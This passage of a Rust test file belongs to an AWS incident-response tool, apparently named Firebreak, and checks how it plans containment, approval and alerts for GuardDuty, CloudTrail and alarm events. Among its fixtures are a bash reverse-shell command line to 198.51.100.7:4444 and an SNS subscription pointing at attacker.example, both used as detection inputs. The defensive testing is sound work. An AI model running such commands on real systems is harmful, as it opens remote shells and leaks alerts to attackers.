        ("AttachRolePolicy", json!({"roleName": "web-role", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"})),
    ] {
        let plan = plan_with(cloudtrail(name, member("444455556666"), request), &every_account);
        assert_eq!(plan.decision, Decision::Notify, "{name}: {:?}", plan.reasons);
        assert_eq!(plan.severity, crate::incident::SeverityLabel::Critical, "{name}");
        assert_eq!(plan.rule, Some("CT-SELF-001"), "{name}");
    }
}

#[test]
fn forged_cloudtrail_events_are_refused() {
    let mut custom = sample("cloudtrail/sg-open-ssh-to-world.json");
    custom["source"] = json!("my.app");
    let err = parse_value(custom).expect_err("refused");
    assert!(err.to_string().contains("source"), "{err}");
    let mut disagree = sample("cloudtrail/sg-open-ssh-to-world.json");
    disagree["account"] = json!("999999999999");
    let err = parse_value(disagree).expect_err("refused");
    assert!(err.to_string().contains("recipientAccountId"), "{err}");
}

const EC2_SEQUENCE: &str = "guardduty/attack-sequence-ec2-instance-group.json";

fn instances_with(plan: &Plan, action: &str) -> Vec<String> {
    plan.actions
        .iter()
        .filter(|a| a.step.name() == action)
        .filter_map(|a| a.step.instance_id().map(|i| i.to_string()))
        .collect()
}

#[test]
fn an_ec2_instance_group_sequence_contains_every_instance_it_names_once() {
    let plan = plan(sample(EC2_SEQUENCE));
    assert_eq!(plan.decision, Decision::Contain);
    // One directly, two through the Auto Scaling group (one of them as an ARN), the first listed twice more.
    let expected = ["i-0abc1234def567890", "i-0abc1234def567891", "i-0abc1234def567892"];
    assert_eq!(instances_with(&plan, "isolate_instance"), expected);
    for step in &CONTAIN[..CONTAIN.len() - 1] {
        assert_eq!(instances_with(&plan, step), expected, "{step}");
    }
    assert_eq!(action_names(&plan).iter().filter(|a| **a == "notify").count(), 1, "one notification");
    assert!(plan
        .reasons
        .iter()
        .any(|r| r.contains("i-0abc1234def567892 is named through AUTOSCALING_AUTO_SCALING_GROUP")));
    assert_eq!(plan.severity, crate::incident::SeverityLabel::Critical);
}

#[test]
fn sample_archived_and_low_severity_sequences_never_contain() {
    let sample_flag = json!({"value": "{\"sample\":true}", "type": "default"});
    let cases = [
        ("sample", edited(EC2_SEQUENCE, &[("/detail/service/additionalInfo", sample_flag)]), Decision::Notify),
        ("archived", edited(EC2_SEQUENCE, &[("/detail/service/archived", json!(true))]), Decision::Ignore),
        ("below the threshold", edited(EC2_SEQUENCE, &[("/detail/severity", json!(6.5))]), Decision::Notify),
    ];
    for (what, doc, decision) in cases {
        let plan = plan(doc);
        assert_eq!(plan.decision, decision, "{what}");
        assert!(instances_with(&plan, "isolate_instance").is_empty(), "{what}");
    }
}

#[test]
fn a_full_group_list_is_named_as_possibly_truncated() {
    let uids: Vec<String> = (0..25).map(|n| format!("i-0abc1234def5679{n:02}")).collect();
    let doc = edited(
        EC2_SEQUENCE,
        &[(
            "/detail/service/detection/sequence/resources/1/data/autoscalingAutoScalingGroup/ec2InstanceUids",
            json!(uids),
        )],
    );
    let plan = plan(doc);
    assert_eq!(instances_with(&plan, "isolate_instance").len(), 26);
    assert!(plan
        .reasons
        .iter()
        .any(|r| r.contains("AUTOSCALING_AUTO_SCALING_GROUP prod-web") && r.contains("may have more")));
}

#[test]
fn instances_of_another_account_or_unparsable_uids_are_named_and_never_acted_on() {
    let doc = edited(
        EC2_SEQUENCE,
        &[
            ("/detail/service/detection/sequence/resources/0/accountId", json!("210987654321")),
            (
                "/detail/service/detection/sequence/resources/2/data/iamInstanceProfile/ec2InstanceUids",
                json!(["web-server-7"]),
            ),
        ],
    );
    let plan = plan(doc);
    // i-…890 is still named by the Auto Scaling group of this account.
    assert_eq!(
        instances_with(&plan, "isolate_instance"),
        ["i-0abc1234def567891", "i-0abc1234def567892", "i-0abc1234def567890"]
    );
    let refused = plan.reasons.iter().find(|r| r.starts_with("not acted on")).expect("named");
    assert!(refused.contains("i-0abc1234def567890 (in another account or region)") && refused.contains("web-server-7"));
}

#[test]
fn other_sequences_are_notified_and_container_hosts_are_never_isolated() {
    let ecs = plan(sample("guardduty/attack-sequence-ecs-cluster.json"));
    assert_eq!(ecs.decision, Decision::Notify);
    assert_eq!(action_names(&ecs), ["notify"]);
    assert!(ecs.reasons[0].contains("2 EC2 instance(s) appear only as container hosts"));
    for other in [
        "AttackSequence:EKS/CompromisedCluster",
        "AttackSequence:IAM/CompromisedCredentials",
        "AttackSequence:S3/CompromisedData",
    ] {
        // Even an IAM or S3 sequence that lists instances in a group is not an instance-group sequence.
        let notified = plan(edited(EC2_SEQUENCE, &[("/detail/type", json!(other))]));
        assert_eq!(notified.decision, Decision::Notify, "{other}");
        assert!(instances_with(&notified, "isolate_instance").is_empty(), "{other}");
    }
}

#[test]
fn a_sequence_without_its_sequence_is_refused_naming_the_field() {
    let mut doc = sample(EC2_SEQUENCE);
    doc["detail"]["service"].as_object_mut().expect("service").remove("detection");
    let error = parse_value(doc).expect_err("refused").to_string();
    assert!(error.contains("detail.service.detection.sequence"), "{error}");
}

#[test]
fn runtime_findings_on_ec2_are_decided_like_other_instance_findings() {
    let plan = plan(sample("guardduty/runtime-ec2-reverse-shell.json"));
    assert_eq!(plan.decision, Decision::Contain);
    assert_eq!(action_names(&plan), CONTAIN);
    let crate::incident::IncidentKind::Guardduty(f) = &plan.incident.kind else { panic!("guardduty") };
    let process = f.process.as_ref().expect("runtime details");
    assert_eq!(process.name.as_deref(), Some("bash"));
    assert_eq!(process.command_line.as_deref(), Some("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"));
    assert_eq!(f.feature.as_deref(), Some("RuntimeMonitoring"));
}

#[test]
fn runtime_findings_on_ecs_are_notified_with_cluster_task_and_image_and_stopped_only_when_opted_in() {
    let plan = plan(sample("guardduty/runtime-ecs-cryptominer.json"));
    assert_eq!(plan.decision, Decision::Notify);
    assert!(plan.reasons[0].contains("FIREBREAK_ECS_STOP_TASK is off"), "{:?}", plan.reasons);
    let medium = plan_with(
        edited("guardduty/runtime-ecs-cryptominer.json", &[("/detail/severity", json!(5))]),
        &Policy { ecs_stop_task: true, ..Policy::default() },
    );
    assert_eq!(action_names(&medium), ["notify"], "below the containment threshold: never stopped");
    assert!(medium.reasons[0].contains("ECS workload"));
    let opted_in = plan_with(
        sample("guardduty/runtime-ecs-cryptominer.json"),
        &Policy { ecs_stop_task: true, ..Policy::default() },
    );
    assert_eq!(action_names(&opted_in), ["stop_ecs_task", "notify"]);
    let crate::incident::IncidentKind::Guardduty(f) = &plan.incident.kind else { panic!("guardduty") };
    let workload = f.workload.as_ref().expect("workload");
    assert_eq!(workload.cluster.as_deref(), Some("arn:aws:ecs:us-east-1:123456789012:cluster/prod-cluster"));
    assert_eq!(workload.containers[0].1, "123456789012.dkr.ecr.us-east-1.amazonaws.com/web:2026.11.20");
}

const CONTRIBUTOR: &str = "alarm/fleet-idle-contributor-eventbridge.json";

#[test]
fn an_idle_contributor_is_stopped_the_same_whether_it_comes_through_eventbridge_or_sns() {
    let direct = plan(sample(CONTRIBUTOR));
    let via_sns = plan(sample("alarm/fleet-idle-contributor-sns.json"));
    for p in [&direct, &via_sns] {
        assert_eq!(p.decision, Decision::StopIdle);
        assert_eq!(action_names(p), ["stop_instance", "notify"]);
        assert_eq!(p.instance_id().map(|i| i.as_str()), Some("i-0abc1234def567890"));
    }
    assert_eq!(direct.incident_key, via_sns.incident_key, "one incident however it arrives");
    assert!(direct.incident_key.contains("#contributor#6d442278dba546f6#"), "{}", direct.incident_key);
}

#[test]
fn contributors_back_to_ok_or_not_idle_or_without_an_instance_never_stop() {
    let cases = [
        ("OK", edited(CONTRIBUTOR, &[("/detail/state/value", json!("OK"))]), Decision::Ignore),
        (
            "a greater-than alarm",
            edited(
                CONTRIBUTOR,
                &[(
                    "/detail/state/reason",
                    json!("Threshold Crossed: 1 datapoint was greater than the threshold (80.0)."),
                )],
            ),
            Decision::Notify,
        ),
        (
            "a non-activity metric",
            edited(
                CONTRIBUTOR,
                &[(
                    "/detail/configuration/metrics/0/expression",
                    json!("SELECT MIN(disk_free) FROM CWAgent GROUP BY InstanceId"),
                )],
            ),
            Decision::Notify,
        ),
        (
            "grouped by table",
            edited(CONTRIBUTOR, &[("/detail/alarmContributor/attributes", json!({"TableName": "orders"}))]),
            Decision::Notify,
        ),
        (
            "muted",
            edited(
                CONTRIBUTOR,
                &[(
                    "/detail/muteDetail",
                    json!({"mutedByArn": "arn:aws:cloudwatch:us-east-1:123456789012:alarm-mute-rule:night"}),
                )],
            ),
            Decision::Notify,
        ),
    ];
    for (what, doc, decision) in cases {
        let plan = plan(doc);
        assert_eq!(plan.decision, decision, "{what}: {:?}", plan.reasons);
        assert!(!action_names(&plan).contains(&"stop_instance"), "{what}");
    }
    let resolved = plan_with(
        edited(CONTRIBUTOR, &[("/detail/state/value", json!("OK"))]),
        &Policy { notify_resolved: true, ..Policy::default() },
    );
    assert_eq!(resolved.decision, Decision::Notify);
}

#[test]
fn the_parent_of_a_fleet_alarm_is_a_summary_or_ignored_never_a_stop() {
    let parent = "alarm/fleet-idle-parent-eventbridge.json";
    let summary = plan(sample(parent));
    assert_eq!(summary.decision, Decision::Notify);
    assert!(summary.reasons[0].contains("2 out of 6 time series evaluated to ALARM"));
    let quiet = plan_with(sample(parent), &Policy { fleet_alarm_summary: false, ..Policy::default() });
    assert_eq!(quiet.decision, Decision::Ignore);
    // Even an idle-pattern name does not make the parent name an instance.
    let named = plan_with(
        sample(parent),
        &Policy { idle_alarm_pattern: Some("idle-stop-fleet-*".into()), ..Policy::default() },
    );
    assert!(!action_names(&named).contains(&"stop_instance"));
}

#[test]
fn a_contributor_only_comes_in_a_contributor_event() {
    let missing = edited(CONTRIBUTOR, &[("/detail/alarmContributor", Value::Null)]);
    let error = parse_value(missing).expect_err("refused").to_string();
    assert!(error.contains("detail.alarmContributor"), "{error}");
    let smuggled = edited(CONTRIBUTOR, &[("/detail-type", json!("CloudWatch Alarm State Change"))]);
    let error = parse_value(smuggled).expect_err("refused").to_string();
    assert!(error.contains("detail.alarmContributor"), "{error}");
}

const EXFILTRATION: &str = "guardduty/accesskey-credential-exfiltration.json";
const ROLE_ID: &str = "AROAEXAMPLE";

#[test]
fn an_exfiltration_revokes_the_credentials_of_the_instance_its_principal_names() {
    let revoked = plan(sample(EXFILTRATION));
    // The principal id `<role id>:<instance id>` names the instance; the dummy instanceDetails does not.
    let [first, _] = revoked.actions.as_slice() else { panic!("{:?}", revoked.actions) };
    match &first.step {
        crate::plan::Step::RevokeInstanceCredentials { instance_id, role_name, role_id } => {
            assert_eq!(instance_id.as_str(), "i-0abc1234def567890");
            assert_eq!(role_name.as_deref(), Some("web-role"));
            assert_eq!(role_id.as_deref(), Some(ROLE_ID), "the role is named by its unique id too");
        }
        other => panic!("{other:?}"),
    }
    assert!(revoked.reasons[0].contains("FIREBREAK_CONTAIN_ON_CREDENTIAL_EXFILTRATION is off"));
    let contained =
        plan_with(sample(EXFILTRATION), &Policy { contain_on_credential_exfiltration: true, ..Policy::default() });
    assert_eq!(contained.decision, Decision::Contain);
    assert_eq!(action_names(&contained), CONTAIN);
    let medium = plan(edited(EXFILTRATION, &[("/detail/severity", json!(5))]));
    assert_eq!(action_names(&medium), ["notify"], "below the containment threshold: notify only");
}

#[test]
fn user_keys_and_other_role_sessions_are_revoked_only_when_opted_in() {
    let user = edited(
        EXFILTRATION,
        &[
            ("/detail/type", json!("UnauthorizedAccess:IAMUser/MaliciousIPCaller")),
            (
                "/detail/resource/accessKeyDetails",
                json!({"accessKeyId": "AKIAEXAMPLEKEY", "principalId": "AIDAEXAMPLE", "userName": "alice", "userType": "IAMUser"}),
            ),
        ],
    );
    assert_eq!(action_names(&plan(user.clone())), ["notify"]);
    let opted = plan_with(user, &Policy { deactivate_user_keys: true, ..Policy::default() });
    assert_eq!(action_names(&opted), ["deactivate_access_key", "notify"]);

    let session = edited(
        EXFILTRATION,
        &[
            ("/detail/type", json!("UnauthorizedAccess:IAMUser/TorIPCaller")),
            (
                "/detail/resource/accessKeyDetails",
                json!({"accessKeyId": "ASIAEXAMPLEKEY", "principalId": "AROAEXAMPLE:deploy-pipeline", "userName": "deploy", "userType": "AssumedRole"}),
            ),
        ],
    );
    let notified = plan(session.clone());
    assert_eq!(action_names(&notified), ["notify"]);
    assert!(notified.reasons[0].contains("every holder of the role"));
    let opted = plan_with(session, &Policy { revoke_role_sessions: true, ..Policy::default() });
    assert_eq!(action_names(&opted), ["revoke_role_sessions", "notify"]);
}

fn approval(rules: super::ApprovalPolicy) -> Policy {
    Policy { approval: rules, ..Policy::default() }
}

/// A person's answer by link, for the plans that ran once approved.
fn by_link() -> crate::approval::Approver {
    crate::approval::Approver { via: crate::approval::Via::Link, source_ip: None, user_agent: None, user: None, at: 0 }
}

#[test]
fn a_contain_worthy_finding_in_the_approval_band_awaits_approval_with_the_steps_it_would_take() {
    let band = approval(super::ApprovalPolicy { min_severity: Some(4.0), ..Default::default() });
    let medium = edited("guardduty/ec2-backdoor-high-severity.json", &[("/detail/severity", json!(5.0))]);
    let waiting = plan_with(medium.clone(), &band);
    assert_eq!(waiting.decision, Decision::AwaitApproval);
    assert_eq!(action_names(&waiting), contain_naming_a_domain(), "the steps approval would run, in order");
    assert!(
        waiting.reasons[0].starts_with("approval required: severity 5 is in the approval band"),
        "{:?}",
        waiting.reasons
    );
    // Without the band the same finding is only notified; above the band it is contained at once.
    assert_eq!(plan(medium).decision, Decision::Notify);
    assert_eq!(plan_with(sample("guardduty/ec2-backdoor-high-severity.json"), &band).decision, Decision::Contain);
    // Below the band: notified, never asked about.
    let low = edited("guardduty/ec2-backdoor-high-severity.json", &[("/detail/severity", json!(3.9))]);
    assert_ne!(plan_with(low, &band).decision, Decision::AwaitApproval);
}

#[test]
fn listed_accounts_and_instances_and_large_sequences_await_approval_even_at_high_severity() {
    let high = sample("guardduty/ec2-backdoor-high-severity.json");
    let instance = plan(high.clone()).instances()[0].to_string();
    let account = plan(high.clone()).incident.origin.account.map(|a| a.to_string()).expect("account");
    let by_account = approval(super::ApprovalPolicy { accounts: vec![account.clone()], ..Default::default() });
    let by_instance = approval(super::ApprovalPolicy { instances: vec![instance.clone()], ..Default::default() });
    for (policy, named) in [(&by_account, &account), (&by_instance, &instance)] {
        let p = plan_with(high.clone(), policy);
        assert_eq!(p.decision, Decision::AwaitApproval);
        assert!(p.reasons[0].contains(named.as_str()), "{:?}", p.reasons);
    }
    let other = approval(super::ApprovalPolicy { instances: vec!["i-0fffffffffffffff0".into()], ..Default::default() });
    assert_eq!(plan_with(high, &other).decision, Decision::Contain);

    let sequence = sample(EC2_SEQUENCE);
    let named = plan(sequence.clone()).instances().len();
    let small = approval(super::ApprovalPolicy { sequence_instances: Some(named - 1), ..Default::default() });
    let large = approval(super::ApprovalPolicy { sequence_instances: Some(named), ..Default::default() });
    assert_eq!(plan_with(sequence.clone(), &small).decision, Decision::AwaitApproval);
    assert_eq!(plan_with(sequence, &large).decision, Decision::Contain);
}

#[test]
fn an_idle_stop_waits_for_approval_where_its_instance_or_account_is_listed_or_the_preference_requires_it() {
    // Issue #29: one rule for every destructive plan. An idle stop has no severity: the band and the
    // sequence limit do not apply, the lists and the preference do.
    let idle = sample("alarm/idle-cpu-eventbridge.json");
    let instance = plan(idle.clone()).instances()[0].to_string();
    let listed = approval(super::ApprovalPolicy { instances: vec![instance.clone()], ..Default::default() });
    let account = approval(super::ApprovalPolicy { accounts: vec!["123456789012".into()], ..Default::default() });
    let required = Policy { preference: super::ContainmentPreference::ApprovalRequired, ..Policy::default() };
    for (name, policy) in [("instance", &listed), ("account", &account), ("preference", &required)] {
        let waiting = plan_with(idle.clone(), policy);
        assert_eq!(waiting.decision, Decision::AwaitApproval, "{name}: {:?}", waiting.reasons);
        assert_eq!(action_names(&waiting), ["stop_instance", "notify"], "{name}: the steps it waits to take");
        assert!(waiting.reasons[0].starts_with("approval required: "), "{name}: {:?}", waiting.reasons);
    }
    assert!(required.asks_for_approval(), "the preference alone keeps the events a request needs");
    let band = approval(super::ApprovalPolicy { min_severity: Some(4.0), ..Default::default() });
    assert_eq!(plan_with(idle.clone(), &band).decision, Decision::StopIdle, "the band is about findings");
    let other = approval(super::ApprovalPolicy { instances: vec!["i-0fffffffffffffff0".into()], ..Default::default() });
    assert_eq!(plan_with(idle.clone(), &other).decision, Decision::StopIdle);
    // Once approved it runs as what it was: a stop.
    let approved = crate::approval::approved(plan_with(idle, &listed), &by_link());
    assert_eq!(approved.decision, Decision::StopIdle);
    assert_eq!(action_names(&approved), ["stop_instance", "notify"]);
}

#[test]
fn a_credential_revocation_waits_for_approval_under_the_same_rules_as_a_containment() {
    // Issue #29: revoking an instance's credentials cuts a production database off AWS as surely as
    // isolating it; listed accounts and instances and the approval band hold it back alike.
    let listed_instance =
        approval(super::ApprovalPolicy { instances: vec!["i-0abc1234def567890".into()], ..Default::default() });
    let listed_account =
        approval(super::ApprovalPolicy { accounts: vec!["123456789012".into()], ..Default::default() });
    for (name, policy) in [("instance", &listed_instance), ("account", &listed_account)] {
        let plan = plan_with(sample(EXFILTRATION), policy);
        assert_eq!(plan.decision, Decision::AwaitApproval, "{name}: {:?}", plan.reasons);
        assert!(plan.has(crate::plan::StepKind::RevokeInstanceCredentials), "{name}: the steps it waits to take");
    }
    let band = approval(super::ApprovalPolicy { min_severity: Some(4.0), ..Default::default() });
    let medium = plan_with(edited(EXFILTRATION, &[("/detail/severity", json!(5))]), &band);
    assert_eq!(medium.decision, Decision::AwaitApproval, "{:?}", medium.reasons);
    // Once approved it runs as what it was: a revocation, not an isolation.
    let approved = crate::approval::approved(medium, &by_link());
    assert_eq!(approved.decision, Decision::Revoke);
    assert_eq!(action_names(&approved), ["revoke_instance_credentials", "notify"]);
    // Nothing listed: it runs at once, as before.
    assert_eq!(plan(sample(EXFILTRATION)).decision, Decision::Revoke);
}

#[test]
fn the_containment_preference_of_an_account_decides_as_its_table_says() {
    use super::ContainmentPreference::{ApprovalRequired, ContainConfirmed, ContainSuspected};
    let at =
        |severity: f64| edited("guardduty/ec2-backdoor-high-severity.json", &[("/detail/severity", json!(severity))]);
    let (wait, contain) = (Decision::AwaitApproval, Decision::Contain);
    // (preference, approval band, severity, decision): the table of `ContainmentPreference`.
    for (preference, band, severity, expected) in [
        (ApprovalRequired, None, 8.0, wait),
        (ApprovalRequired, Some(4.0), 5.0, wait),
        (ApprovalRequired, None, 5.0, Decision::Notify),
        (ContainConfirmed, None, 8.0, contain),
        (ContainConfirmed, Some(4.0), 5.0, wait),
        (ContainConfirmed, None, 5.0, Decision::Notify),
        (ContainSuspected, None, 8.0, contain),
        (ContainSuspected, Some(4.0), 5.0, contain),
        (ContainSuspected, None, 5.0, contain),
        (ContainSuspected, Some(5.5), 5.0, Decision::Notify),
        (ContainSuspected, None, 2.0, Decision::Ignore),
    ] {
        let policy = Policy {
            preference,
            approval: super::ApprovalPolicy { min_severity: band, ..Default::default() },
            ..Policy::default()
        };
        let plan = plan_with(at(severity), &policy);
        assert_eq!(plan.decision, expected, "{preference:?} band {band:?} severity {severity}: {:?}", plan.reasons);
        if expected == wait && preference == ApprovalRequired {
            assert!(
                plan.reasons[0].contains("preference of account 123456789012 is approval-required"),
                "{:?}",
                plan.reasons
            );
        }
    }
    // One account overrides the organisation's preference; the others keep it.
    let policy = Policy {
        preference: ContainConfirmed,
        account_preferences: [("123456789012".to_owned(), ContainSuspected)].into(),
        ..Policy::default()
    };
    assert_eq!(plan_with(at(5.0), &policy).decision, contain);
    let elsewhere = edited(
        "guardduty/ec2-backdoor-high-severity.json",
        &[
            ("/detail/severity", json!(5.0)),
            ("/account", json!("210987654321")),
            ("/detail/accountId", json!("210987654321")),
        ],
    );
    assert_eq!(plan_with(elsewhere, &policy).decision, Decision::Notify);
    let strict =
        Policy { account_preferences: [("123456789012".to_owned(), ApprovalRequired)].into(), ..Policy::default() };
    let waiting = plan_with(at(8.0), &strict);
    assert!(waiting.reasons[0].contains("(FIREBREAK_CONTAINMENT_PREFERENCE_ACCOUNTS)"), "{:?}", waiting.reasons);
}

#[test]
fn approval_never_applies_to_what_is_not_a_containment() {
    let everything = approval(super::ApprovalPolicy {
        min_severity: Some(4.0),
        accounts: vec!["123456789012".into()],
        sequence_instances: Some(0),
        ..Default::default()
    });
    for name in [
        "guardduty/ec2-sample-finding.json",
        "guardduty/attack-sequence-ecs-cluster.json",
        "cloudtrail/sg-open-ssh-to-world.json",
    ] {
        assert_ne!(plan_with(sample(name), &everything).decision, Decision::AwaitApproval, "{name}");
    }
}

#[test]
fn a_finding_naming_a_domain_blocks_it_unless_it_must_never_be_blocked_or_blocking_is_off() {
    let gd = "guardduty/ec2-backdoor-high-severity.json";
    let blocked = |plan: &Plan| {
        plan.actions.iter().find_map(|a| match &a.step {
            crate::plan::Step::BlockDomain { domain, .. } => Some(domain.clone()),
            _ => None,
        })
    };
    let plan = plan_with(sample(gd), &Policy::default());
    assert_eq!(blocked(&plan).as_deref(), Some("c2.example.invalid"));
    let aws = plan_with(
        edited(gd, &[("/detail/service/action/dnsRequestAction/domain", json!("s3.amazonaws.com"))]),
        &Policy::default(),
    );
    assert_eq!(blocked(&aws), None);
    assert!(aws
        .reasons
        .iter()
        .any(|r| r.starts_with("the finding's domain is not blocked: s3.amazonaws.com is under")));
    assert_eq!(aws.decision, Decision::Contain, "contained all the same");
    let off = plan_with(sample(gd), &Policy { block_domains: false, ..Policy::default() });
    assert_eq!(blocked(&off), None);
}

#[test]
fn a_contained_instance_is_scanned_for_malware_unless_scanning_is_off() {
    let gd = "guardduty/ec2-backdoor-high-severity.json";
    let scans = |plan: &Plan| plan.actions.iter().filter(|a| a.step.kind() == StepKind::ScanForMalware).count();
    assert_eq!(scans(&plan_with(sample(gd), &Policy::default())), 1);
    assert_eq!(scans(&plan_with(sample(gd), &Policy { scan_for_malware: false, ..Policy::default() })), 0);
    let sequence = plan_with(sample("guardduty/attack-sequence-ec2-instance-group.json"), &Policy::default());
    assert_eq!(scans(&sequence), sequence.instances().len(), "each instance of a sequence");
    let notified = plan_with(edited(gd, &[("/detail/severity", json!(5))]), &Policy::default());
    assert_eq!(scans(&notified), 0, "only what is contained");
}

/// The finding of a scan joins the incident the scan was for, and starts no scan of its own (else
/// every scan that finds malware would start another).
#[test]
fn a_malware_scans_finding_joins_its_incident_and_is_not_scanned_again() {
    let on_demand = plan_with(sample("guardduty/ec2-malicious-file-on-demand-scan.json"), &Policy::default());
    assert_eq!(on_demand.decision, Decision::Contain);
    assert!(!on_demand.has(StepKind::ScanForMalware), "{:?}", action_names(&on_demand));
    let names = action_names(&on_demand);
    assert_eq!(&names[names.len() - 2..], ["record_scan_result", "notify"]);
    let joined = |plan: &Plan| {
        plan.actions.iter().find_map(|a| match &a.step {
            crate::plan::Step::RecordScanResult { scan_id, trigger_finding_id } => {
                Some((scan_id.clone(), trigger_finding_id.clone()))
            }
            _ => None,
        })
    };
    assert_eq!(joined(&on_demand), Some(("5e8f2a7c9b1d4e6f8a0c2e4f6a8b0c2d".into(), None)));
    // GuardDuty's own scan for a finding names that finding: its incident is the one joined.
    let initiated = plan_with(
        edited(
            "guardduty/ec2-malicious-file-on-demand-scan.json",
            &[
                ("/detail/service/ebsVolumeScanDetails/scanType", json!("GUARDDUTY_INITIATED")),
                ("/detail/service/ebsVolumeScanDetails/triggerFindingId", json!("a8c4e2f1b3d5c7e9f0a1b2c3d4e5f6a7")),
            ],
        ),
        &Policy::default(),
    );
    assert_eq!(
        joined(&initiated),
        Some(("5e8f2a7c9b1d4e6f8a0c2e4f6a8b0c2d".into(), Some("a8c4e2f1b3d5c7e9f0a1b2c3d4e5f6a7".into())))
    );
    let low = plan_with(
        edited("guardduty/ec2-malicious-file-on-demand-scan.json", &[("/detail/severity", json!(5))]),
        &Policy::default(),
    );
    assert_eq!(action_names(&low), ["record_scan_result", "notify"], "notified, and joined all the same");
}

/// What Security Hub delivered is written back by default; GuardDuty's own event only when the policy
/// names a format; never with write-back off. The target is the finding GuardDuty's ARN names.
#[test]
fn the_security_hub_write_back_is_planned_where_the_policy_says() {
    use crate::policy::SecurityHubWriteBack;
    let written = |plan: &Plan| {
        plan.actions.iter().find_map(|a| match &a.step {
            crate::plan::Step::UpdateSecurityHubFinding { finding } => Some(finding.clone()),
            _ => None,
        })
    };
    let delivered = plan_with(sample("securityhub/ocsf-guardduty-ec2-backdoor.json"), &Policy::default());
    let finding = written(&delivered).expect("the delivered finding");
    assert_eq!(finding.format, crate::incident::FindingFormat::Ocsf);
    assert_eq!(
        &action_names(&delivered)[action_names(&delivered).len() - 2..],
        ["update_security_hub_finding", "notify"]
    );
    let native = sample("guardduty/ec2-backdoor-high-severity.json");
    assert!(written(&plan_with(native.clone(), &Policy::default())).is_none(), "GuardDuty's own event: not by default");
    let asff = Policy { security_hub_write_back: SecurityHubWriteBack::Asff, ..Policy::default() };
    let to = written(&plan_with(native.clone(), &asff)).expect("configured");
    assert_eq!(
        (to.id.as_str(), to.product_uid.as_str(), to.updated_at.as_str()),
        (
            "arn:aws:guardduty:us-east-1:123456789012:detector/12abc34d567e8fa901bc2d34eexample/finding/a8c4e2f1b3d5c7e9f0a1b2c3d4e5f6a7",
            "arn:aws:securityhub:us-east-1::product/aws/guardduty",
            "2026-11-24T05:58:11.000Z"
        )
    );
    let off = Policy { security_hub_write_back: SecurityHubWriteBack::Off, ..Policy::default() };
    assert!(written(&plan_with(sample("securityhub/ocsf-guardduty-ec2-backdoor.json"), &off)).is_none());
    let ignored =
        edited("securityhub/asff-inspector-ec2-cve.json", &[("/detail/findings/0/RecordState", json!("ARCHIVED"))]);
    assert!(plan_with(ignored, &Policy::default()).actions.is_empty(), "an archived finding: nothing at all");
}

/// CT-SELF-002, the kill switch nobody sees: disabling or retargeting one of Firebreak's rules,
/// subscribing to or unsubscribing from its topic, deleting its alarms, deleting a function or a role's
/// policy stops containment without a sound. Reported whoever does it (an attempt the SCP denies too),
/// unless the deployment does (its role, or CloudFormation itself); the same calls on anything that is
/// not Firebreak's are left alone. The records take their shapes from the services' CloudTrail pages
/// (the EventBridge User Guide's PutRule, the Lambda Developer Guide's DeleteFunction20150331).
#[test]
fn a_change_to_firebreaks_own_plumbing_by_anyone_but_the_deployment_is_reported() {
    let developer = json!({"type": "AssumedRole", "arn": "arn:aws:sts::123456789012:assumed-role/developer/alice",
        "accountId": "123456789012", "sessionContext": {"sessionIssuer": {"type": "Role",
        "arn": "arn:aws:iam::123456789012:role/developer", "userName": "developer", "accountId": "123456789012"}}});
    let responder = "arn:aws:lambda:us-east-1:123456789012:function:firebreak-guardduty-responder";
    let changes = [
        ("DisableRule", json!({"name": "firebreak-guardduty-findings"}), "rule firebreak-guardduty-findings"),
        (
            "PutRule",
            json!({"description": "", "name": "firebreak-risky-api-calls", "state": "ENABLED", "eventPattern": "{}", "scheduleExpression": ""}),
            "rule firebreak-risky-api-calls",
        ),
        (
            "RemoveTargets",
            json!({"rule": "firebreak-guardduty-findings", "ids": ["GuardDutyResponderFindingsLambdaTarget"]}),
            "firebreak-guardduty-findings",
        ),
        (
            "PutTargets",
            json!({"rule": "nightly-build", "targets": [{"id": "forged", "arn": responder, "input": "{\"detail-type\":\"GuardDuty Finding\"}"}]}),
            "aims it at Firebreak's firebreak-guardduty-responder",
        ),
        (
            "Subscribe",
            json!({"topicArn": "arn:aws:sns:us-east-1:123456789012:firebreak-notifications", "protocol": "https", "endpoint": "https://attacker.example/"}),
            "topic firebreak-notifications",
        ),
        (
            "Unsubscribe",
            json!({"subscriptionArn": "arn:aws:sns:us-east-1:123456789012:firebreak-notifications:8b6b2c1e-0f2e-4a8e-9f55-0a1b2c3d4e5f"}),
            "topic firebreak-notifications",
        ),
        ("DeleteAlarms", json!({"alarmNames": ["team-cpu", "firebreak-failed-steps"]}), "alarm firebreak-failed-steps"),
        (
            "DeleteFunction20150331",
            json!({"functionName": "firebreak-cloudtrail-responder"}),
            "function firebreak-cloudtrail-responder",
        ),
        ("DeleteRolePolicy", json!({"roleName": "firebreak-member", "policyName": "respond"}), "role firebreak-member"),
    ];
    for (name, request, what) in &changes {
        let plan = plan(cloudtrail(name, developer.clone(), request.clone()));
        assert_eq!(plan.rule, Some("CT-SELF-002"), "{name}: {:?}", plan.reasons);
        assert_eq!(plan.decision, Decision::Notify, "{name}");
        assert_eq!(plan.severity, crate::incident::SeverityLabel::High, "{name}");
        assert!(plan.reasons[0].contains(what), "{name}: {:?}", plan.reasons);
    }
    // Denied by the SCP: still the signal.
    let mut attempt = cloudtrail("DisableRule", developer.clone(), json!({"name": "firebreak-guardduty-findings"}));
    attempt["detail"]["errorCode"] = json!("AccessDenied");
    let attempted = plan(attempt);
    assert_eq!(attempted.rule, Some("CT-SELF-002"));
    assert!(attempted.reasons[0].contains("attempted: AccessDenied"), "{:?}", attempted.reasons);
    // Not Firebreak's: nothing to say.
    for (name, request) in [
        ("DisableRule", json!({"name": "nightly-build"})),
        (
            "Subscribe",
            json!({"topicArn": "arn:aws:sns:us-east-1:123456789012:builds", "protocol": "email", "endpoint": "a@example.com"}),
        ),
        ("DeleteAlarms", json!({"alarmNames": ["team-cpu"]})),
        ("DeleteFunction20150331", json!({"functionName": "basic-node-task"})),
    ] {
        assert_eq!(plan(cloudtrail(name, developer.clone(), request)).decision, Decision::Ignore, "{name}");
    }
    // The deployment: its role, or CloudFormation applying a stack.
    let deployer = json!({"type": "AssumedRole", "arn": "arn:aws:sts::123456789012:assumed-role/platform-deployer/ci",
        "accountId": "123456789012", "sessionContext": {"sessionIssuer": {"type": "Role",
        "arn": "arn:aws:iam::123456789012:role/platform-deployer", "userName": "platform-deployer", "accountId": "123456789012"}}});
    let policy = Policy {
        deployment_role_arn: Some("arn:aws:iam::123456789012:role/platform-deployer".into()),
